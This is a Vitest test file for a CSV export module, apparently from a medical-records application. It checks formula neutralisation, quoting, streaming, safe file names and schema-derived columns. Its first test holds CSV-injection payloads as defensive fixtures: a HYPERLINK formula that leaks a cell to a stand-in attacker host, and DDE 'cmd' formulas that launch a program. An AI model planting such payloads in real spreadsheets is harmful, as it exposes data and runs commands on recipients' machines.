import { buffer } from 'node:stream/consumers';
import { describe, expect, it } from 'vitest';
import { CSV_BOM, cellText, csvDocument, csvFilename, csvStream, neutralise } from './csv.ts';
import { columnsFromSchema, instantText } from './csv-export.ts';
import { z } from 'zod';
import { csvGrid } from '../test/csv.ts';

describe('CSV writing', () => {
  const columns = [
    { header: 'Name', value: (row: { name: string; n?: number }) => row.name },
    { header: 'Count', value: (row: { name: string; n?: number }) => row.n },
  ];

  it('neutralises every formula start (OWASP): = + - @ tab and carriage return', () => {
    const cases: [string, string][] = [
      [
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
      ],
      ["+cmd|' /C calc'!A0", `'+cmd|' /C calc'!A0`],
      ['-1+1', "'-1+1"],
      ["@SUM(1+1)*cmd|' /C calc'!A0", `'@SUM(1+1)*cmd|' /C calc'!A0`],
      ['\t=1+1', "'\t=1+1"],
      ['\r=1+1', "'\r=1+1"],
      ['Plain text', 'Plain text'],
      ['a=b', 'a=b'],
    ];
    for (const [input, expected] of cases) expect(neutralise(input)).toBe(expected);
    const rows = csvGrid(
      csvDocument(
        columns,
        cases.map(([name]) => ({ name })),
      ),
    );
    expect(rows[0]).toEqual(['Name', 'Count']);
    expect(rows.slice(1).map((r) => r[0])).toEqual(cases.map(([, expected]) => expected));
  });

  it('keeps our own numbers as numbers, and a text that looks like one as text', () => {
    expect(cellText(-5)).toBe('-5');
    expect(cellText(3.25)).toBe('3.25');
    expect(cellText('-5')).toBe("'-5");
    expect(cellText(Number.NaN)).toBe('');
    expect(cellText(null)).toBe('');
    expect(cellText(undefined)).toBe('');
    expect(cellText(true)).toBe('Yes');
  });

  it('quotes quotes, commas and line breaks, ends lines with CRLF and keeps unicode', () => {
    const tricky = ['He said "hi"', 'Smith, John', 'line one\nline two', 'Zoë Ñúñez 李雷 😀', ''];
    const csv = csvDocument(
      columns,
      tricky.map((name, n) => ({ name, n })),
    );
    expect(csv.startsWith(`${CSV_BOM}Name,Count\r\n`)).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv).toContain('"He said ""hi"""');
    expect(csv).toContain('"Smith, John"');
    expect(csv).toContain('"line one\nline two"');
    const rows = csvGrid(csv);
    expect(rows.slice(1)).toEqual(tricky.map((name, n) => [name, String(n)]));
    expect(Buffer.from(csv, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  });

  it('streams batches after the header, and an empty list is the header alone', async () => {
    async function* batches() {
      yield [{ name: 'A' }];
      yield [];
      yield [{ name: '=B' }, { name: 'C' }];
    }
    const csv = (await buffer(csvStream(columns, batches()))).toString('utf8');
    expect(csvGrid(csv)).toEqual([
      ['Name', 'Count'],
      ['A', ''],
      ["'=B", ''],
      ['C', ''],
    ]);
    async function* none() {}
    expect((await buffer(csvStream(columns, none()))).toString('utf8')).toBe(
      `${CSV_BOM}Name,Count\r\n`,
    );
  });

  it('names files safely and writes instants in the reader’s zone', () => {
    expect(csvFilename('medical-records', '2026-11-24')).toBe('medical-records-2026-11-24.csv');
    expect(csvFilename('../x"y', '2026-11-24')).toBe('x-y-2026-11-24.csv');
    expect(instantText('2026-07-01T08:30:00.000Z', 'Europe/London')).toBe('2026-07-01 09:30');
    expect(instantText('2026-01-01T08:30:00.000Z', 'America/New_York')).toBe('2026-01-01 03:30');
  });

  it('derives columns from an answer schema: words for headers, no staff ids for a patient', () => {
    const schema = z.object({
      id: z.number(),
      patientName: z.string(),
      doctorId: z.number(),
      doctorName: z.string(),
      dateOfVisit: z.string(),
      tags: z.array(z.string()),
      nested: z.object({ a: z.number() }).nullable(),
    });
    const staff = columnsFromSchema(schema, { zone: 'UTC', patientReader: false });
    expect(staff.map((c) => c.header)).toEqual([
      'Id',
      'Patient name',
      'Doctor id',
      'Doctor name',
      'Date of visit',
      'Tags',
    ]);
    const row = {
      id: 1,
      patientName: 'Ada',
      doctorId: 7,
      doctorName: 'Dr House',
      dateOfVisit: '2026-03-01T10:00:00.000Z',
      tags: ['a', 'b'],
      nested: { a: 1 },
    };
    expect(staff.map((c) => c.value(row))).toEqual([
      1,
      'Ada',
      7,
      'Dr House',
      '2026-03-01 10:00',
      'a; b',
    ]);
    const patient = columnsFromSchema(schema, { zone: 'UTC', patientReader: true });
    expect(patient.map((c) => c.header)).not.toContain('Doctor id');
    expect(patient.map((c) => c.header)).toContain('Doctor name');
  });
});
